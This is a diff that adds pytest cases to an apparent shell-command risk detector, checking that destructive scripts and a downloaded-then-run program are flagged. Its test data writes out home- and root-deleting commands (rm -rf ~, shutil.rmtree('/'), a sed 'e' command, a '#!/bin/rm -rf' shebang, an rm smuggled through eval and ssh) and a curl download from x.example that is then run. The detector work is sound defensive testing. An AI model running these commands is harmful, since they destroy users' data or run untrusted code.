@@ -63,6 +63,35 @@ def test_a_file_that_is_opened_for_both_ways_takes_no_output() -> None:
     assert [effect.kind for effect in assess("sort <>notes").effects] == ["read", "append"]
 
 
+@pytest.mark.parametrize(
+    ("name", "text"),
+    [
+        ("tool", "rm -rf ~"),
+        ("ls", "rm -rf ~"),  # what the line wrote counts, not what else is called so
+        ("tool", "#!/bin/bash -e\nrm -rf ~"),
+        ("tool", "#!/usr/bin/env python3\nimport shutil; shutil.rmtree('/')"),
+        ("tool", "#!/usr/bin/env -S deno run -A\nDeno.removeSync('/', {recursive: true})"),
+        ("tool", "#!/usr/bin/make -f\nall:\n\trm -rf ~"),
+        ("tool", "#!/bin/sed -f\n1e rm -rf ~"),
+        ("tool", "#!/bin/rm -rf\n/"),
+    ],
+)
+def test_an_executable_runs_as_its_first_line_says(name: str, text: str) -> None:
+    line = f"cat > {name} <<'E'\n{text}\nE\nchmod +x {name}\n./{name} ~\n"
+    assert any(rule.startswith("deletion-") for rule in rules(line))
+
+
+def test_a_program_that_the_line_installs_is_found_by_its_name() -> None:
+    assert "deletion-home" in rules("echo 'rm -rf ~' > /usr/local/bin/tool; chmod +x /usr/local/bin/tool; tool")
+    assert "execution-remote-code" in rules("curl -o /usr/local/bin/tool https://x.example/t; tool --version")
+
+
+def test_what_a_shell_reads_has_no_use_for_a_first_line() -> None:
+    python = "cat > tool <<'E'\n#!/usr/bin/env python3\nprint(1)\nE\n"
+    assert assess(python + "chmod +x tool; ./tool").risk.name == "MEDIUM"
+    assert assess(python + "bash tool").risk.name == "UNKNOWN"
+
+
 def test_a_plus_begins_an_option_of_few_tools_only() -> None:
     assert "deletion-home" in rules("eval '+=;rm -rf ~'")
     assert "deletion-home" in rules("ssh h.example '+;rm -rf ~'")
